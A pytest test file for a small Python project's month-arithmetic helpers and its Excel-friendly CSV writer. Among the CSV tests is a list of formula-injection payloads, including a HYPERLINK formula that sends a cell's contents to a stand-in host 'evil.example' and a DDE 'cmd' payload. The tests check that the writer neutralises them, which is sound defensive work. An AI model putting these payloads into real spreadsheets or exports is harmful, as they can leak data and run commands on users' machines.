"""The one month arithmetic (`loket.core.months`) and the one CSV writer (`loket.core.csvfile`)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest

from loket.core.csvfile import csv_bytes, csv_response, neutralise
from loket.core.months import add_months, month_range, month_start, months_between


def test_add_months_crosses_years_both_ways_and_lands_on_the_first():
    assert add_months(date(2026, 11, 30), 2) == date(2027, 1, 1)
    assert add_months(date(2026, 1, 31), -1) == date(2025, 12, 1)
    assert add_months(date(2026, 3, 15), 0) == date(2026, 3, 1) == month_start(date(2026, 3, 15))
    assert add_months(date(2026, 3, 1), -48) == date(2022, 3, 1)
    with pytest.raises(ValueError):
        add_months(date(9999, 12, 1), 1)


def test_months_between_counts_whole_months_as_an_age():
    assert months_between(date(2025, 3, 1), date(2025, 3, 28)) == 0
    assert months_between(date(2025, 3, 1), date(2025, 4, 1)) == 1
    assert months_between(date(2025, 1, 31), date(2025, 2, 28)) == 0
    assert months_between(date(2024, 6, 15), date(2026, 6, 14)) == 23
    assert months_between(date(2026, 6, 1), date(2026, 4, 1)) == -2


def test_month_range_includes_both_ends_and_is_empty_when_reversed():
    assert month_range(date(2025, 11, 20), date(2026, 2, 3)) == [
        date(2025, 11, 1),
        date(2025, 12, 1),
        date(2026, 1, 1),
        date(2026, 2, 1),
    ]
    assert month_range(date(2026, 2, 1), date(2025, 2, 1)) == []


def _read(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_belgian_excel_semicolons_decimal_comma_bom_and_crlf():
    content = csv_bytes(
        [
            ["Naam", "Aantal", "Aandeel", "Bedrag", "Datum", "Leeg"],
            ['Crèche Zoë; de "kleine"', 3, 0.25, Decimal("12.50"), date(2026, 3, 1), None],
            ["Tijd", -3, 1.0, Decimal("0"), datetime(2026, 3, 1, 9, 5), ""],
        ]
    )
    assert b"\r\n" in content
    rows = _read(content)
    assert rows[1] == ['Crèche Zoë; de "kleine"', "3", "0,25", "12,50", "2026-03-01", ""]
    assert rows[2] == ["Tijd", "-3", "1", "0", "2026-03-01 09:05", ""]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_a_cell_that_could_be_a_formula_is_text(hostile):
    rows = _read(csv_bytes([["Naam"], [hostile]]))
    assert rows[1][0] == "'" + hostile
    assert not rows[1][0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_ordinary_text_and_numbers_are_untouched():
    assert neutralise("De Vlinder") == "De Vlinder"
    assert neutralise("<5") == "<5"
    assert _read(csv_bytes([["n"], [-7]]))[1] == ["-7"]


def test_response_is_a_named_download():
    response = csv_response([["a"], ["=1"]], filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert _read(response.content)[1] == ["'=1"]
